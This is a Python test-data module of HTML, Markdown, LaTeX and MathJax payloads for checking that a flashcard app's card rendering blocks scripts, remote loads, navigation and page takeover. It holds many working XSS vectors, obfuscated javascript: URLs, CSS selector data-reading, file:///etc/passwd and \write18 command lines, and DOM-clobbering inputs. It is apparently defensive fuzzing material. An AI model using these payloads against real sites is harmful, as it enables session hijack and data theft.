"""What tries to run a script, to load something, to leave, or to change the page around a card.

`GROUPS` are cards as HTML, and `TEXTS` what an author could write in a text to have such a card. In
a payload, HOST is the address of a server that counts its connections, and BAD is a script that
leaves a mark on each window that it reaches.
"""

# Each mark is looked for afterwards. In a text, an address has no spaces and brackets.
_MARK = "for(const w of [window,parent,top])try{w.bad=1}catch(e){}"
_MARK_IN_TEXT = "window.bad=1"

_LINKS = (
    "stylesheet", "prefetch", "preload", "modulepreload", "preconnect", "dns-prefetch",
    "prerender", "icon", "manifest", "import", "alternate",
)  # fmt: skip
# What the page's scripts ask a card's document, its forms and themselves for.
_DOCUMENT_NAMES = (
    "body", "documentElement", "getElementById", "querySelector", "querySelectorAll",
    "addEventListener", "getSelection", "createElement", "defaultView", "activeElement", "head",
    "fonts",
)  # fmt: skip
_FORM_NAMES = (
    "attributes", "removeAttribute", "getAttribute", "setAttribute", "matches", "closest",
    "dataset", "childNodes", "remove", "localName", "style", "parentNode",
)  # fmt: skip
_PAGE_IDS = (
    "data", "frame", "top", "stage", "toast", "said", "help", "app-style", "note-type-style",
    "frame-style", "qa", "content", "position", "flip-button", "list", "image-occlusion-canvas",
    "toggle",
)  # fmt: skip

SCRIPTS = {
    "script": "<script>BAD</script>",
    "script from a host": '<script src="HOST/script.js"></script>',
    "module": '<script type="module">BAD; import("HOST/module.js")</script>',
    "end of the page's script": "</script><script>BAD</script>",
    "end of the frame": "</iframe><script>BAD</script>",
    "end of a comment": "--></style></title></textarea><script>BAD</script>",
    "start of a comment": "<!-- <script>BAD</script>",
    "handler of a picture": '<img src="x" onerror="BAD"><img src="data:," onload="BAD">',
    "handlers that need no hand": (
        '<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart="BAD">a</p>'
        '<details open ontoggle="BAD"><summary>s</summary></details>'
        '<input autofocus onfocus="BAD"><body onload="BAD" onpageshow="BAD" onresize="BAD">'
        '<video onloadstart="BAD" onerror="BAD"><source src="x" onerror="BAD"></video>'
        '<marquee onstart="BAD">m</marquee><svg onload="BAD"></svg><svg/onload=BAD>'
    ),
    "handlers that need a hand": (
        '<p tabindex="0" onclick="BAD" onkeydown="BAD" onmouseover="BAD" onpointerdown="BAD" '
        'onfocus="BAD" onbeforeinput="BAD" oncopy="BAD" contenteditable>text</p>'
        '<div onclick="BAD" accesskey="n"><button onclick="BAD" popovertarget="p">b</button></div>'
        '<div id="p" popover onbeforetoggle="BAD">p</div>'
    ),
    "script as an address": (
        '<a href="javascript:BAD">a</a><a href=" &#1;java&#9;script:BAD">b</a>'
        '<a href="JaVaScRiPt:BAD" target="_top">c</a><a href="data:text/html,<script>BAD</script>">'
        "d</a>"
        '<svg width="50" height="20"><a xlink:href="javascript:BAD"><text y="15">e</text></a></svg>'
        '<math><mtext href="javascript:BAD" xlink:href="javascript:BAD">f</mtext></math>'
        '<map name="m"><area shape="rect" coords="0,0,50,50" href="javascript:BAD"></map>'
        '<img usemap="#m" src="data:image/svg+xml,<svg/>" width="50" height="50">'
    ),
    "script as a form's address": (
        '<form action="javascript:BAD"><button>a</button><input type="submit"></form>'
        '<form id="f"></form><button form="f" formaction="javascript:BAD">b</button>'
        '<form><input type="image" src="x" formaction="javascript:BAD"></form>'
    ),
    "frames": (
        '<iframe src="javascript:BAD"></iframe><iframe srcdoc="<script>BAD</script>"></iframe>'
        '<iframe src="HOST/frame"></iframe><object data="javascript:BAD"></object>'
        '<object data="HOST/object"></object><embed src="HOST/embed"><frameset><frame src="HOST/f">'
        '<portal src="HOST/portal"></portal><fencedframe src="HOST/ff"></fencedframe>'
        '<applet code="HOST/applet"></applet>'
    ),
    "animation to a script": (
        '<svg width="90" height="30"><a><animate attributeName="href" values="javascript:BAD"/>'
        '<set attributeName="xlink:href" to="javascript:BAD"/>'
        '<set attributeName="onclick" to="BAD"/><text y="20">animated</text></a></svg>'
    ),
    "scripts in SVG": (
        "<svg><script>BAD</script><foreignObject><iframe srcdoc='<script>BAD</script>'></iframe>"
        '<body onload="BAD"><img src="x" onerror="BAD"></body></foreignObject>'
        '<use href="HOST/use.svg#a"/><use xlink:href="data:image/svg+xml,<svg id=a/>#a"/>'
        '<image href="HOST/image" xlink:href="HOST/image2" width="9" height="9"/>'
        '<feImage href="HOST/fe"/><style>@import "HOST/svg.css";</style></svg>'
    ),
    "hidden in other markup": (
        "<noscript><p title='</noscript><img src=x onerror=BAD>'></noscript>"
        "<template><script>BAD</script><img src=HOST/template></template>"
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
        "onerror=BAD&gt;'></style></mglyph></table></mtext></math>"
        "<svg></p><style><a id='</style><img src=x onerror=BAD>'>"
        "<select><template shadowrootmode=open><script>BAD</script></template></select>"
        "<div><template shadowrootmode=open><img src=HOST/shadow onerror=BAD></template></div>"
    ),
}

LOADS = {
    "pictures": (
        '<img src="HOST/img"><img srcset="HOST/set 1x, HOST/set2 2x"><img src="//HOST/none">'
        '<picture><source srcset="HOST/source"><img src="HOST/img2"></picture>'
        '<input type="image" src="HOST/input"><img lowsrc="HOST/low" dynsrc="HOST/dyn">'
        '<table background="HOST/table"><td background="HOST/cell">c</table>'
        '<body background="HOST/b">'
    ),
    "sounds and videos": (
        '<video poster="HOST/poster" src="HOST/video" autoplay preload="auto"></video>'
        '<audio autoplay src="HOST/audio"></audio><audio><source src="HOST/source"></audio>'
        '<video autoplay controls><track default src="HOST/track" kind="captions"></video>'
        '<bgsound src="HOST/bg">'
    ),
    "links that load": "".join(
        f'<link rel="{kind}" href="HOST/{number}" as="script">'
        for number, kind in enumerate(_LINKS)
    ),
    "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["HOST/spec"]}]}</script>',
    "styles that load": (
        '<style>@import "HOST/import.css"; @import url(HOST/import2.css);'
        "@font-face{font-family:f;src:url(HOST/font)} *{font-family:f;background:url(HOST/all);"
        "cursor:url(HOST/cursor),auto;list-style-image:url(HOST/list);"
        "border-image:url(HOST/border)}"
        "p::before{content:url(HOST/content)} p{mask:url(HOST/mask#m);filter:url(HOST/filter#f);"
        "background:image-set(url(HOST/set) 1x);shape-outside:url(HOST/shape)}</style><p>styled</p>"
    ),
    "attributes that load": (
        '<p style="background-image:url(HOST/attribute);--x:url(HOST/variable)">a</p>'
        '<p style="background:u\\72l(HOST/escaped)">b</p><svg><rect fill="url(HOST/fill#a)" '
        'filter="url(HOST/filter#f)" width="9" height="9"/></svg>'
        '<q cite="HOST/cite">c</q><ins cite="HOST/cite2">d</ins><html manifest="HOST/manifest">'
    ),
    "reading by selectors": (
        '<style>input[value^="s"]{background:url(HOST/starts-with-s)}'
        "@media print{body{background:url(HOST/print)}}</style><input value='secret'>"
    ),
}

LEAVES = {
    "refresh": '<meta http-equiv="refresh" content="0;url=HOST/refresh">',
    "refresh to a script": '<meta http-equiv="refresh" content="0;url=javascript:BAD">',
    "another base": '<base href="HOST/" target="_top"><a href="relative">a</a><img src="img">',
    "another policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "links out": (
        '<a href="HOST/link">a</a><a href="HOST/top" target="_top">b</a>'
        '<a href="HOST/parent" target="_parent" ping="HOST/ping">c</a>'
        '<a href="HOST/blank" target="_blank" rel="opener">d</a>'
        '<a href="HOST/named" target="w">e</a>'
        '<a href="HOST/file" download>f</a><a href="data:,text" download="x.txt">g</a>'
        '<a href="file:///etc/passwd">h</a><a href="mailto:a@example.org">i</a>'
        '<a href="#nowhere">j</a><a href="about:blank" target="_top">k</a>'
        '<svg width="50" height="20"><a href="HOST/svg" target="_top">'
        '<text y="15">l</text></a></svg>'
        '<map name="n"><area coords="0,0,50,50" href="HOST/area" target="_top"></map>'
        '<img usemap="#n" src="data:image/svg+xml,<svg/>" width="50" height="50">'
        '<math href="HOST/math"><mi href="HOST/mi">m</mi></math>'
    ),
    "forms": (
        '<form action="HOST/form" method="post"><input name="a" value="b">'
        "<button>send</button></form>"
        '<form action="HOST/top" target="_top"><input type="submit" autofocus></form>'
        '<form id="g"></form><input form="g" value="x">'
        '<button form="g" formaction="HOST/formaction" '
        'formtarget="_blank" formmethod="post">send</button>'
        '<form method="dialog"><button>close</button></form>'
        '<form action="HOST/image"><input type="image" src="x" alt="i"></form>'
    ),
}

COVERS = {
    "a cover": (
        '<div style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;'
        'background:red">cover</div>'
    ),
    "a cover by a stylesheet": (
        "<style>html{display:none!important} :root{--ground:red;--ink:red} *{all:unset!important;"
        "position:fixed!important;inset:-999px!important;z-index:2147483647!important}"
        "#top,header,nav,button{display:none!important;color:red}</style><p>p</p>"
    ),
    "dialogs": (
        "<dialog open style='position:fixed;inset:0;width:100vw;height:100vh'>d</dialog>"
        '<div popover="manual" id="q">q</div><button popovertarget="q">show</button>'
        '<button command="show-modal" commandfor="r">modal</button><dialog id="r">r</dialog>'
    ),
    "names of the document": "".join(
        f'<img name="{name}" id="{name}"><form name="{name}"></form>' for name in _DOCUMENT_NAMES
    ),
    "names of a form": "<form onclick=BAD>"
    + "".join(f'<input name="{name}" id="{name}">' for name in _FORM_NAMES)
    + "</form>",
    "ids of the page": "".join(f'<p id="{name}">{name}</p>' for name in _PAGE_IDS),
    "an occlusion": (
        '<div id="image-occlusion-container"><img src="HOST/occlusion"><canvas '
        'id="image-occlusion-canvas"></canvas></div><div class="cloze" data-shape="__proto__" '
        'data-left="x"></div><div class="cloze" data-shape="rect" data-left="-9" data-top="1e9" '
        'data-width="url(HOST/shape)" data-height="NaN"></div>'
    ),
    "what the page replaces": (
        '[[type:Typed]] [[type:"><img src=x onerror=BAD>]] [anki:play:q:0] [anki:play:a:99] '
        '[sound:HOST/a.mp3] [sound:"><script>BAD</script>] \\(\\href{javascript:BAD}{x}\\) '
        '<a class="hint" href="#" onclick="BAD;document.getElementById(\'top\')">hint</a>'
        '<button data-play="0">play</button><button data-play="__proto__">play</button>'
    ),
    "ten thousand cells": "<table>" + ("<tr>" + "<td>cell" * 100) * 100 + "</table>",
    "deep nesting": "<div>" * 5_000 + "deep" + "<b><i>" * 300 + "<a href=#>a",
    "a broken drawing": (
        '<svg viewBox="0 0 0 0" width="1e9" height="-5"><path d="M0 0L"><g><rect width="abc">'
        "<text>&undefined;<![CDATA[ ]]><svg><desc><table><svg></p></g></p><foreignObject>"
    ),
    "text without an end": "<plaintext><script>BAD</script></body></html>",
    "a field without an end": "<textarea><script>BAD</script></body>",
    "a style without an end": "<style>*{display:none",
    "nothing closed": (
        "<b><i><u><a href='HOST/open'><button><select><option><table><tr><td><ul><li>"
    ),
    "an attribute without an end": "<p title=\"<img src=x onerror=BAD><a href='HOST/attribute",
    "keys and focus": (
        '<input autofocus accesskey="j"><button accesskey="n" autofocus>b</button>'
        '<textarea autofocus></textarea><div contenteditable autofocus tabindex="1">edit</div>'
        '<select autofocus><option>o</select><marquee><a href="HOST/m">m</a></marquee>'
    ),
    "characters": "\u202e\u2066 reversed \u0000\ufeff\ud7ff\U0010ffff" + "\u0301" * 500 + "]]>",
}


GROUPS = {"scripts": SCRIPTS, "loads": LOADS, "leaves": LEAVES, "covers": COVERS}

# Addresses of a link. What a browser reads as another address may be the same one to an app.
ADDRESSES = (
    "javascript:BAD",
    "JaVaScRiPt:BAD",
    "javascript://%0aBAD",
    "javascript:void%200;BAD",
    "java%73cript:BAD",
    "%6a%61vascript:BAD",
    "javascript%3ABAD",
    "javascript&colon;BAD",
    "java&#115;cript:BAD",
    "&#x6A;avascript:BAD",
    "&#0000106avascript:BAD",
    "java&Tab;script:BAD",
    "java&NewLine;script:BAD",
    "<java\tscript:BAD>",
    "<  javascript:BAD>",
    "<\u00a0javascript:BAD>",
    "\u200bjavascript:BAD",
    "java\u200bscript:BAD",
    "java\u00adscript:BAD",
    "\ufeffjavascript:BAD",
    "\u2060javascript:BAD",
    "\u202ejavascript:BAD",
    "ｊａｖａｓｃｒｉｐｔ:BAD",
    "java\\script:BAD",
    "\\javascript:BAD",
    "javascript\\:BAD",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:BAD",
    "mocha:BAD",
    "data:text/html,<script>BAD</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x",
    "data:application/xhtml+xml,<x/>",
    "data:image/svg+xml,<svg/onload=BAD>",
    "blob:HOST/1",
    "filesystem:HOST/1",
    "file:///etc/passwd",
    "file://HOST/share/a.exe",
    "smb://HOST/share",
    "view-source:HOST",
    "about:blank",
    "chrome://settings",
    "res://ieframe.dll",
    "jar:HOST/a.jar!/b",
    "feed:javascript:BAD",
    "intent://a#Intent;scheme=javascript;end",
    "ms-msdt:/id%20PCWDiagnostic",
    "search-ms:query=a&crumb=location:HOST",
    "shortcuts://run-shortcut?name=a",
    "vscode://a.b/run",
    "x-apple.systempreferences:a",
    "steam://run/1",
    "ssh://HOST",
    "telnet://HOST",
    "pycmd:ans",
    "anki-deck:a",
    "https:javascript:BAD",
    "//HOST\" onclick=\"BAD",
    "HOST'onclick='BAD",
    "https://a/\"><script>BAD</script>",
    "https://a/' onmouseover='BAD",
    "https://a/\x0bonclick=BAD",
    "/\\HOST/a",
    "\\\\HOST\\a",
)  # fmt: skip

# What a link can be.
LINKS = (
    "[a][b]\n\n[b]: javascript:BAD",
    "[b]\n\n[b]: <javascript:BAD> 'title'",
    "[a][B]\n\n[b]:\n  javascript:BAD\n  \"t\"",
    "[a][b]\n\n[b]: https://a\n[b]: javascript:BAD",
    "<javascript://HOST/%0aBAD>",
    "<javascript:BAD>",
    "<JAVASCRIPT://a>",
    "<vbscript://a>",
    "<data://text/html,a>",
    "<file:///etc/passwd>",
    "<mailto:a@b.c\"onclick=BAD>",
    "<a@b.c>(javascript:BAD)",
    "[a](https://a \"x\" onclick=\"BAD\")",
    "[a](https://a 'x\" onmouseover=\"BAD')",
    "[a](https://a (\"><script>BAD</script>))",
    "[a](javascript:BAD \"title\")",
    "[![a](https://a/a.png)](javascript:BAD)",
    "[a [b](javascript:BAD) c](javascript:BAD)",
    "[<b>a</b>](javascript:BAD)",
    "[a](<javascript:BAD>)",
    "[a](  javascript:BAD  )",
    "[a](\njavascript:BAD\n)",
    "[[javascript:BAD]]",
    "[[javascript:BAD|a]]",
    "[[a|<script>BAD</script>]]",
    "[[a#<img src=x onerror=BAD>|b]]",
    "![[javascript:BAD.png]]",
    "![[\"onerror=BAD x=\".png]]",
    "[a](javascript:BAD)[^1]\n\n[^1]: [b](javascript:BAD)",
    "| [a](javascript:BAD) |\n|---|\n| <javascript://a> |",
    "> [!note] [a](javascript:BAD)\n> [b](javascript:BAD)",
    "- [a](javascript:BAD)\n- ![b](javascript:BAD)",
    "**[a](javascript:BAD)** ==[b](javascript:BAD)== ~~[c](javascript:BAD)~~",
    "<a href=\"javascript:BAD\">a</a><a href='java&#10;script:BAD'>b</a>",
    "<a href=javascript:BAD>a</a>",
    "<A HREF=\"JAVASCRIPT:BAD\">a</A>",
    "<a href=\"a](javascript:BAD) [b\">c</a>",
    "<a href=\"a>b](javascript:BAD)\">c</a>",
    "<a href='https://a/) <script>BAD</script>'>c</a>",
    "<a href=\"&#106;avascript&#58;BAD\">a</a>",
    "<a xlink:href='javascript:BAD'>a</a><area href='javascript:BAD'>",
)  # fmt: skip

PICTURES = (
    "![a](javascript:BAD)",
    "![a](JavaScript:BAD.png)",
    "![a](javascript:BAD.mp3)",
    "![a](vbscript:BAD)",
    "![a](data:text/html,<script>BAD</script>)",
    "![a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "![a](<data:image/svg+xml,<svg onload='BAD' xmlns='http://www.w3.org/2000/svg'/>>)",
    (
        "![a](data:image/svg+xml,%3Csvg%20onload='BAD'%20xmlns='http://www.w3.org/2000/svg'%3E"
        "%3Cscript%3EBAD%3C/script%3E%3Cimage%20href='HOST/svg'/%3E%3C/svg%3E)"
    ),
    "![a](DATA:IMAGE/PNG;base64,eA==\"onerror=\"BAD)",
    "![a\" onerror=\"BAD](data:image/png;base64,eA==)",
    "![a](data:image/png;base64,eA== \"t\" onerror=\"BAD\")",
    "![a](data:image/png;base64,eA== \"t\\\" onerror=BAD\")",
    "![a](data:image/png;base64,eA==){width=3 onerror=BAD}",
    "![a](data:image/png;base64,eA==){width=\"3\"onerror=\"BAD\"}",
    "![a](data:image/png;base64,eA==){style=\"background:url(HOST/style)\"}",
    "![<script>BAD</script>](data:image/png;base64,eA==)",
    "![a][b]\n\n[b]: javascript:BAD",
    "![a][b]\n\n[b]: data:text/html,x",
    "![a](blob:HOST/1) ![a](filesystem:HOST/2) ![a](about:blank)",
    "![a](ftp://HOST/a.png) ![a](view-source:HOST)",
    "[sound:javascript:BAD] [sound:javascript:BAD.mp3]",
    "[sound:data:audio/mp3;base64,eA==]",
    "[sound:av://lavfi:a.mp3] [sound:edl://a.mp3] [sound:--script=a.mp3]",
    "<img src=\"javascript:BAD\"><img src='data:text/html,x' alt='b'>",
    "<img src=x onerror=BAD><image src=x onerror=BAD>",
    "<img src='a.png\" onerror=\"BAD' alt='](javascript:BAD)'>",
    "<img alt='](data:image/png;base64,eA==) ![' src='data:image/gif;base64,eA'>",
    "<video src='javascript:BAD' poster='HOST/p'></video><audio src='data:text/html,x'></audio>",
    "<object data='javascript:BAD'></object><embed src='javascript:BAD'>",
)  # fmt: skip

FORMULAS = (
    r"$\href{javascript:BAD}{x}$",
    r"\(\href{javascript:BAD}{x}\) and \[\href{JAVASCRIPT:BAD}{x}\]",
    r"$$\href{ javascript:BAD}{x}$$",
    "$\\href{java\tscript:BAD}{x}$",
    r"$\href {javascript:BAD}{x}$",
    r"$\href{data:text/html,x}{x}$",
    r"$\href{file:///etc/passwd}{x}$",
    r"$\let\h\href$ $\h{javascript:BAD}{x}$",
    r"$\let\h=\href \h{javascript:BAD}{x}$",
    r"$\def\h{\href}\h{javascript:BAD}{x}$",
    r"$\def\h#1{\href{#1}{x}}\h{javascript:BAD}$",
    r"$\newcommand{\h}[1]{\href{#1}{x}}$ $\h{javascript:BAD}$",
    r"$\newenvironment{h}{\href}{}\begin{h}{javascript:BAD}{x}\end{h}$",
    r"$\def\j#1#2{#1#2}\j{\hr}{ef}{javascript:BAD}{x}$",
    r"$\def\j#1{\hr#1}\j{ef}{javascript:BAD}{x}$",
    r"$\verb\a\\href{javascript:BAD}{x}$",
    r"$\text{a \(\href{javascript:BAD}{x}\) $b$}$",
    r"$\ce{\href{javascript:BAD}{H2O}}$",
    "$$\\href%\n{javascript:BAD}{x}$$",
    r"$a \) \[b$ \href{javascript:BAD}{x} $\]c$",
    r"$a \) \(b$ \href{javascript:BAD}{x} $\)c$",
    r"\\(\href{javascript:BAD}{x}\\) and \\[\href{javascript:BAD}{x}\\]",
    r"\\\(\href{javascript:BAD}{x}\)",
    r"`\(`\href{javascript:BAD}{x}`\)`",
    r"**\\**(\href{javascript:BAD}{x}\\)",
    "&#92;(\\href{javascript:BAD}{x}&#92;)",
    r"<anki-mathjax>\href{javascript:BAD}{x}</anki-mathjax>",
    r"<anki-mathjax block='true'>\style{background:url(HOST/m)}{x}</anki-mathjax>",
    r"[latex]\href{javascript:BAD}{x}[/latex] [$]\href{javascript:BAD}{x}[/$]",
    r"$\mmlToken{mi}[href='javascript:BAD']{x}$",
    r"$\mmlToken{mi}[style='background:url(HOST/mml)']{x}$",
    r"$\style{background:url(HOST/style)}{x}$",
    r"$\style{background:u\72l(HOST/style2)}{x}$",
    r"$\def\s#1{\style{color:#1}{x}}\s{red;background:url(HOST/style3)}$",
    r"$\def\s#1{\style{color:#123}{x}}\s{red;background:url(HOST/style4)}$",
    r"$\bbox[background:url(HOST/bbox)]{x}$",
    r"$\bbox [red,background:url(HOST/bbox2)]{x}$",
    r"$\unicode[a;background:url(HOST/unicode)]{x41}$",
    r"$\unicode[.5,.1][a;background:url(HOST/unicode3)]{x41}$",
    r"$\let\u\unicode\u[a;background:url(HOST/unicode2)]{x41}$",
    r"$\require{HOST/a}x$ $\require{[mathjax]/../../../a}x$",
    r"$\require{//HOST/a}x$ $\require{../../../../a}x$",
    r"$\require{setoptions}\setOptions[require]{defaultAllow=true}x$",
    r"$\require{html}\require{bbox}\require{texhtml}<img src=HOST/t>$",
    r"$\let\h\href{https://a}\h{javascript:BAD}{x}$",
    r"$\def\h#1#2#3{#1{#3}{x}}$ $\h\href{https://a}{javascript:BAD}$",
    r"$\def\h#1#2{#1}$ $\h\href{https://a}{javascript:BAD}{x}$",
    r"$\let\s\style{color:red}\s{background:url(HOST/style5)}{x}$",
    r"$\let\u\unicode{x41}\u[a;background:url(HOST/unicode4)]{x41}$",
    r"$\let\b\bbox{x}\b[background:url(HOST/bbox3)]{x}$",
    r"$\let\r\require{cancel}\r{//HOST/r} \r{[mathjax]/../../../a}$",
    r"$\U{5C}href{javascript:BAD}{x}$",
    r"$\csname href\endcsname{javascript:BAD}{x}$",
    r"$\class{a\" onclick=\"BAD}{x}$ $\cssId{qa}{x}$",
    r"$\color{red;background:url(HOST/color)}{x}\colorbox{url(HOST/box)}{y}$",
    r"$\enclose{box}[mathbackground='url(HOST/enclose)']{x}$",
    r"$\texttip{x}{<img src=x onerror=BAD>}\mathtip{x}{\href{javascript:BAD}{y}}$",
    r"$\text{<img src=x onerror=BAD><script>BAD</script>}$",
    r"$<img src=x onerror=BAD>$ \(<script>BAD</script>\)",
    r"$</span><script>BAD</script>$",
    r"$\ref{x}\label{x}\tag{<script>BAD</script>}$",
    r"$\includegraphics{HOST/i.png}\url{javascript:BAD}$",
)

# What Anki itself, its templates or its add-ons would read.
TEMPLATES = (
    "{{Front}} {{FrontSide}} {{Back}}",
    "{{#Front}}a{{/Front}} {{^Front}}b{{/Front}} {{#Front}}",
    "{{{{Front}}}} {{text:Front}} {{hint:Front}} {{type:Front}}",
    "{{cloze:Text}} {{cloze-only:Text}}",
    "{{tts en_US:Front}} {{edit:Front}} {{furigana:Front}}",
    "{{=<% %>=}} <%Front%>",
    "{{! comment }} {{> partial }} {{& Front }}",
    "{{Tags}} {{Deck}} {{Card}} {{CardFlag}} {{Type}}",
    "{{<script>BAD</script>}}",
    "{{c1::<script>BAD</script>::<img src=x onerror=BAD>}}",
    "{{c1::a::\" onclick=\"BAD}} {{c1::\" onclick=\"BAD}}",
    "c1::a}} }}{{ {{c1:: ::}}",
    "[type:Front] [[type:Front]] [[type:\"><script>BAD</script>]]",
    "[anki:play:q:0] [anki:tts lang=en]<script>BAD</script>[/anki:tts]",
    "[anki:tts lang=\"><script>BAD</script>]a[/anki:tts]",
    "[latex]\\input{/etc/passwd}[/latex] [$]\\write18{id}[/$] [$$]x[/$$]",
    "[LATEX]\\input{/etc/passwd}[/LATEX]",
    "<!-- <script>BAD</script> --> <!--><script>BAD</script>-->",
    "<% BAD %> <?php BAD ?> <![CDATA[<script>BAD</script>]]> <!DOCTYPE a>",
    "${BAD} #{BAD} `${BAD}` %BAD% {%BAD%} [[${BAD}]] @{BAD}",
    "image-occlusion:rect:left=0:top=0:width=1:height=1\" onclick=\"BAD:oi=1",
    "</div></div></section><script>BAD</script>",
    "</style><script>BAD</script><style>",
    "\x020\x03 \x02wzxhzdk:0\x03 \x02amp\x03",
    "&lt;script&gt;BAD&lt;/script&gt; &amp;lt;script&amp;gt;",
    "&#60;script&#62;BAD&#60;/script&#62; &#x3c;img src=x onerror=BAD&#x3e;",
    "\\<script>BAD\\</script> \\&lt;img src=x onerror=BAD>",
    "＜script＞BAD＜/script＞ ‹img src=x onerror=BAD›",
    "<scr<script>ipt>BAD</scr</script>ipt> <<script>BAD//<</script>",
    "<b onclick=BAD>a</b> <b\tonclick=BAD>b</b> <b/onclick=BAD>c</b> <B>d</B>",
    "<kbd style='background:url(HOST/kbd)'>a</kbd> <br onload=BAD> <br style=x>",
    "<sub><script>BAD</script></sub> <mark><img src=x onerror=BAD></mark>",
    "<u></u onclick=BAD> <s title='><script>BAD</script>'>a</s>",
)  # fmt: skip

# Blocks, and what has an attribute or a class from its text.
BLOCKS = (
    "```\" onclick=\"BAD\n<script>BAD</script>\n```",
    "```html\n<script>BAD</script><img src=x onerror=BAD>\n```",
    "```<script>BAD</script>\nx\n```",
    "```javascript\nBAD</code></pre><script>BAD</script>\n```",
    "```mermaid\ngraph TD\nA[<img src=x onerror=BAD>] --> B\nclick A \"javascript:BAD\"\n```",
    "```mermaid\n%%{init: {\"securityLevel\": \"loose\"}}%%\ngraph LR\nclick A call BAD()\n```",
    "```{=html}\n<script>BAD</script>\n```",
    "```dataviewjs\nBAD\n```",
    "``` {.html onclick=BAD #id}\nx\n```",
    "~~~~ a\" style=\"background:url(HOST/fence)\nx\n~~~~",
    "> [!note\" onclick=\"BAD] a\n> b",
    "> [!<script>BAD</script>] a\n> b",
    "> [!note]- <script>BAD</script>\n> <img src=x onerror=BAD>",
    "!!! note\" \"<script>BAD</script>\"\n    a",
    "!!! a\"onclick=BAD \"t\"\n    <script>BAD</script>",
    "| a\" onclick=\"BAD | b |\n|:--\"onclick=BAD|--:|\n| <script>BAD</script> | c |",
    "| a | b |\n|:-|-:|\n| <td onclick=BAD> | </table><script>BAD</script> |",
    "a[^<script>BAD</script>]\n\n[^<script>BAD</script>]: b",
    "a[^\"onclick=BAD]\n\n[^\"onclick=BAD]: b <img src=x onerror=BAD>",
    "<script>BAD</script>\n:   <img src=x onerror=BAD>",
    "a {: onclick=\"BAD\" }\n\n# b {onclick=BAD}",
    "## <script>BAD</script> {#id onclick=BAD}",
    "- [ ] <img src=x onerror=BAD>\n- [x\" onclick=\"BAD] b",
    "漢[<script>BAD</script>] 漢[かん\"onclick=BAD] 漢字[かんじ]",
    "日本[にほん](javascript:BAD) 漢[か](HOST)",
    "H~<script>BAD</script>~ x^<img>^ ==<script>BAD</script>==",
    "::: {onclick=BAD}\n<script>BAD</script>\n:::",
    "<div markdown=1 onclick=BAD>\n\n**a**\n\n</div>",
    "<details open ontoggle=BAD><summary>a</summary>\n\nb\n</details>",
    "<iframe srcdoc='<script>BAD</script>' src='HOST/iframe'></iframe>",
    "<svg><a xlink:href='javascript:BAD'><text>a</text></a><script>BAD</script></svg>",
    "<math><maction actiontype='statusline' xlink:href='javascript:BAD'>a</maction></math>",
    "<meta http-equiv=refresh content='0;url=HOST/meta'><base href='HOST/'>",
    "<link rel=stylesheet href='HOST/link'><style>@import 'HOST/import'</style>",
    "<form action='HOST/form'><input name=a autofocus onfocus=BAD><button>b</button></form>",
    "<table background='HOST/table'><tr><td background='HOST/td' onclick=BAD>a</td></tr></table>",
    "<font face='a\" onclick=\"BAD' color='url(HOST/font)'>a</font>",
    "<span style='background:url(HOST/span)'>a</span><div style='position:fixed;inset:0'>b</div>",
    "<ruby>漢<rt onclick=BAD>かん</rt></ruby><ruby><rb>a<rt><script>BAD</script></ruby>",
    "<ol start='1\" onclick=\"BAD'><li value='\"onclick=BAD'>a</ol>",
    "<pre class='language-\"onclick=BAD'><code>a</code></pre>",
    "<q cite='javascript:BAD'>a</q><blockquote cite='javascript:BAD'>b</blockquote>",
    "<img width='3\" onerror=\"BAD' height='url(HOST/h)' src='data:image/gif;base64,eA'>",
    "<a name='\" onclick=\"BAD' href='https://a'>a</a><p id=qa><p id=answer>",
    "<template><script>BAD</script></template><noscript><img src=x onerror=BAD></noscript>",
    "<title><script>BAD</script></title><textarea><script>BAD</script></textarea>",
    "<xmp><script>BAD</script></xmp><plaintext><script>BAD</script>",
    "<x-a onclick=BAD>a</x-a><a:b onclick=BAD>c</a:b><custom is=a-b>d</custom>",
)  # fmt: skip

# Whole files whose names, tags and other values come from a stranger.
FILES = (
    r"""---
deck: "<script>BAD</script>"
description: "<img src=x onerror=BAD>"
---
Q: a
A: b
""",
    r"""---
deck: "{{Front}}::[latex]x[/latex]::javascript:BAD"
---
Q: a
A: b
""",
    r"""---
description: |
  </div><script>BAD</script>
  [a](javascript:BAD) $\href{javascript:BAD}{x}$
---
Q: a
A: b
""",
    r"""---
tags: ['<script>BAD</script>', '"onclick="BAD', 'a::<img src=x onerror=BAD>']
---
Q: a
A: b
""",
    r"""---
auto-tags: {'"><script>BAD</script>': ['a*']}
---
Q: a
A: b
""",
    r"""---
cssclasses: '"onclick=BAD'
aliases: ['<script>BAD</script>']
---
Q: a
A: b
""",
    r"""---
speech: en-US
---
Q: <script>BAD</script> [/anki:tts]
A: ] [a](javascript:BAD) \\(x\\)
""",
    r"""---
speech: ja-JP
---
Q: 漢[かん] $\href{javascript:BAD}{x}$
A: `</div>` [anki:tts lang=x]
""",
    r"""---
language: ar
---
Q: <b onclick=BAD>a</b>
A: \"onclick=BAD
""",
    r"""Q: a #<script>BAD</script> #"onclick=BAD
A: b
Tags: <img>, "x, {{Front}}
""",
    r"""# <script>BAD</script> #a
## [a](javascript:BAD)
### $\href{javascript:BAD}{x}$
Q: a
A: b
""",
    r"""# ![a](javascript:BAD) <javascript://a>
## {{c1::a}} [sound:a.mp3]
C: {{c1::b}}
""",
    r"""Q: <script>BAD</script>?
Type: typed
A: <img src=x onerror=BAD>
""",
    r"""Q: \(a\\)?
Type: typed
A: $\href{javascript:BAD}{x}$ [type:Back]
""",
    r"""Q: <script>BAD</script>
Type: list
A:
- <img src=x onerror=BAD>
- [a](javascript:BAD)
- $\href{javascript:BAD}{x}$ ::
""",
    r"""Q: <b onclick=BAD>a</b>
Type: reversed
A: [a](javascript:BAD)
""",
    r"""Q: Name it: <script>BAD</script>
Type: occlusion
A:
![a](p.png)
- <script>BAD</script>: rect 10% 10% 20% 20%
- " onclick="BAD: ellipse 50% 50% 20% 20%
- \(\href{javascript:BAD}{x}\): rect 80% 80% 10% 10%
""",
